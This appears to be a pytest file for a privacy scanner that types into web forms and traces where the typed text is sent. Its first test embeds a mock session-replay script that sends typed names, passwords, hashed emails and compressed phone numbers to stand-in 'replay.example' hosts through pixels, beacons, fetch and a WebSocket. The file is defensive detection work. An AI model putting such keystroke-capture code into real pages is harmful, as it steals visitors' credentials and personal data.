"""What is typed is found wherever it goes; nothing is submitted, clicked or left in the evidence."""

from __future__ import annotations

import re
from collections.abc import Awaitable, Callable
from typing import Any

import msgspec
import pytest
from aiohttp import WSMsgType, web

from consent.model.categories import ConsentState
from scanner.collectors.keystrokes import is_typed_into
from scanner.observations import Crawl
from tests.scanner.conftest import SHOP, START, Site

Run = Callable[..., Awaitable[Crawl]]
SECRET = re.compile(r"qz[0-9a-f]{12}|30\d{9}")


def leaks(crawl: Crawl, name: str) -> dict[str, dict[str, Any]]:
    """Where the text of one field went: address to details."""
    return {
        one.details["to"]: one.details | {"initiators": one.initiators}
        for one in crawl.observations
        if one.kind == "typed" and one.name == name
    }


async def test_typed_text_is_found_in_requests_sockets_and_beacons_and_never_submitted(
    site: Site, run_crawl: Run
) -> None:
    site.page(
        "/",
        """<form action="/send" id="form"><input name="who"><input type="email" name="mail"><input type="password" name="word">
        <input type="tel" name="phone"><textarea name="quiet"></textarea><input name="late" hidden></form>
        <button onclick="fetch('/clicked')">Accept</button>
        <script src="https://tags.replay.example/r.js"></script>
        <script>form.addEventListener('change', () => form.requestSubmit())</script>""",
    )
    site.add(
        "tags.replay.example",
        "/r.js",
        """
        const socket = new WebSocket('wss://live.replay.example/ws');
        const hex = (buffer) => [...new Uint8Array(buffer)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
        document.addEventListener('input', async (event) => {
          const { name, value } = event.target;
          if (name === 'who' && value.length > 12) new Image().src = 'https://px.replay.example/k.gif?v=' + btoa('{"v":"' + value + '"}');
          if (name === 'who') navigator.sendBeacon('https://px.replay.example/blob', new Blob([value]));
          if (name === 'word') socket.send(JSON.stringify({ value }));
        });
        document.addEventListener('focusout', async ({ target: { name, value } }) => {
          if (name === 'mail') {
            const digest = hex(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(value)));
            setTimeout(() => fetch('https://px.replay.example/match', { method: 'POST', mode: 'no-cors', body: 'em=' + digest }), 200);
          }
          if (name === 'phone') {
            const packed = new Response(new Blob([value]).stream().pipeThrough(new CompressionStream('gzip')));
            fetch('https://px.replay.example/zip', { method: 'POST', mode: 'no-cors', body: await packed.arrayBuffer() });
          }
        });""",
    )
    for path in ("/k.gif", "/blob", "/match", "/zip"):
        site.add("px.replay.example", path, "ok")
    site.add(SHOP, "/send", "sent")
    site.routes["live.replay.example", "/ws"] = _socket

    crawl = await run_crawl()

    assert crawl.tool["notes"] == []
    who = leaks(crawl, "who")
    assert (
        who["https://px.replay.example/k.gif"]["encoding"],
        who["https://px.replay.example/k.gif"]["part"],
    ) == (
        "base64",
        "address",
    )
    assert who["https://px.replay.example/blob"]["encoding"] == "plain"
    assert "https://tags.replay.example/r.js" in who["https://px.replay.example/k.gif"]["initiators"]
    mail = leaks(crawl, "mail")["https://px.replay.example/match"]
    assert (mail["encoding"], mail["part"], mail["type"], mail["form"]) == (
        "sha256",
        "body",
        "email",
        f"{START}send",
    )
    assert leaks(crawl, "word")["wss://live.replay.example/ws"]["part"] == "socket"
    assert leaks(crawl, "phone")["https://px.replay.example/zip"]["encoding"] == "plain"
    assert list(leaks(crawl, "quiet")) == [""], "typed into, and nothing was sent"
    assert leaks(crawl, "late") == {}, "hidden"
    paths = [path for host, path, _ in site.requests if host == SHOP]
    assert not [path for path in paths if path.startswith(("/send", "/clicked"))]
    kept = [one for one in crawl.observations if one.kind == "typed"]
    assert not SECRET.search(msgspec.json.encode(kept).decode())


async def test_typing_comes_after_everything_else_and_not_on_the_page_of_the_consent_action(
    site: Site, run_crawl: Run
) -> None:
    site.page(
        "/",
        """<input name="q"><div id="banner"><button onclick="document.cookie='cookie_choice=none; path=/'; banner.remove()">Reject all</button></div>
        <script>if (document.cookie.includes('cookie_choice')) banner.remove();
        document.addEventListener('keydown', () => { localStorage.setItem('woken', '1'); fetch('/suggest?q=' + document.querySelector('input').value) })</script>""",
    )
    site.add(SHOP, "/suggest", "[]")

    crawl = await run_crawl(states=(ConsentState.BEFORE, ConsentState.REJECT))

    assert [one.name for one in crawl.observations if one.kind == "local_storage"] == []
    typed = [one for one in crawl.observations if one.kind == "typed"]
    assert {one.state for one in typed} == {ConsentState.BEFORE, ConsentState.REJECT}
    assert all(one.after_action for one in typed)
    assert all(one.details["search"] for one in typed)


async def test_a_page_that_fights_back_costs_bounded_time(site: Site, run_crawl: Run) -> None:
    site.page(
        "/",
        """<script>for (let i = 0; i < 3000; i += 1) { const field = document.createElement('input'); field.name = 'f'.repeat(5000); document.body.append(field) }
        document.addEventListener('focusin', (event) => event.target.remove());
        document.addEventListener('keydown', () => { for (let i = 0; i < 50; i += 1) fetch('/x?' + i) })</script>""",
    )
    crawl = await run_crawl()
    assert crawl.visits[0].status == "ok"
    assert len([one for one in crawl.observations if one.kind == "typed"]) <= 5


@pytest.mark.parametrize(
    ("number", "path", "expected"),
    [
        (0, "", True),
        (9, "teas/assam", True),
        (10, "teas/assam", False),
        (40, "contact-us", True),
        (60, "contact-us", False),
    ],
)
def test_pages_are_chosen_by_the_plan_alone(number: int, path: str, expected: bool) -> None:
    assert is_typed_into(number, START + path) is expected


async def _socket(request: web.Request) -> web.WebSocketResponse:
    socket = web.WebSocketResponse()
    await socket.prepare(request)
    async for message in socket:
        if message.type is WSMsgType.CLOSE:
            break
    return socket
